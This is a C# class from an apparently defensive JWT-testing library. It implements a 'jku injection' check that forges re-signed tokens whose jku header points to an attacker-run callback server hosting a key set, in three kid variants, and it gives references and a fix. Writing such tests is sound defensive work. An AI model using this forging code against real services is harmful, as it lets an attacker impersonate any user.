using System.Text.Json.Nodes;
using CryptoAssert.Jwt.Jose;

namespace CryptoAssert.Jwt.Attacks;

/// <summary>
/// The header says where the keys are, <c>jku</c>, and the verifier asks there: the attacker's own web server. RFC 8725 3.10.
/// CVE-2024-21643: the same in Microsoft's SignedHttpRequest.
/// </summary>
internal sealed class JkuInjection : JwtAttack
{
    public override string Id => "CRY1061";

    public override JwtFamily Family => JwtFamily.EmbeddedKey;

    public override IReadOnlyList<int> Cwe => [345, 918];

    public override IReadOnlyList<string> References => ["RFC 8725 3.10", "ASVS 9.1.3", "CVE-2024-21643"];

    public override string Cause => "accepted a token signed with keys from an address that the token itself names (jku)";

    public override string Why => "anyone can become anyone who can put a file on a web server";

    public override string Fix =>
        "ignore jku: set Authority or IssuerSigningKeys, and remove an IssuerSigningKeyResolver that reads the header";

    internal override Needs Needs => Needs.Callback;

    internal override IEnumerable<Forgery> Forge(Attacker attacker)
    {
        if (attacker.Callback is not { } listener)
        {
            yield break;
        }

        var token = attacker.Token;
        var signer = AttackerKeys.PublicKeySignerFor(token.Alg);
        yield return With("kid kept", token.Kid, _ => { });
        yield return With("a new kid", "attacker", header => header["kid"] = "attacker");
        yield return With("no kid", kid: null, header => header.Remove("kid"));

        Forgery With(string variant, string? kid, Action<JsonObject> change)
        {
            var url = listener.Url(listener.NewId(), $"{CallbackDocuments.KeyPath(signer.Alg, kid)}/jwks.json");
            return new Forgery(
                ResignedJwt.With(token, signer, header =>
                {
                    change(header);
                    header["jku"] = url;
                }),
                variant);
        }
    }
}
